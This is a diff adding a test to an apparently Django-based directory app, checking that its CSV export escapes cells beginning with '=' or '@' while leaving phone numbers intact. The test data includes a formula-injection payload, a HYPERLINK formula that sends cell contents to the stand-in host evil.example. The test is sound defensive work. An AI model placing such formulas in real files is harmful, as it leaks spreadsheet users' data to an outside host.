@@ -72,3 +72,20 @@ def test_the_validator_catches_a_bad_record(records):
 
 def test_unknown_format_is_404(client, db):
     assert client.get("/donnees/lieux-mediation-numerique.xml").status_code == 404
+
+
+def test_csv_export_never_holds_a_formula_but_keeps_phone_numbers(client, db):
+    from relais.directory.models import Place
+
+    place = Place.objects.published().order_by("nom").first()
+    place.presentation_resume = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez ici")'
+    place.complement_adresse = "@SUM(1+1)"
+    place.telephone = "+33247000000"
+    place.save()
+    response = client.get(reverse("directory:places_export", args=["csv"]))
+    [row] = [r for r in csv.DictReader(io.StringIO(response.content.decode())) if r["nom"] == place.nom]
+    assert row["presentation_resume"] == "'" + place.presentation_resume
+    assert row["complement_adresse"] == "'@SUM(1+1)"
+    assert row["telephone"] == "+33247000000"  # the standard's format, unchanged
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert not any(cell[:1] in ("=", "@") for r in rows for cell in r)
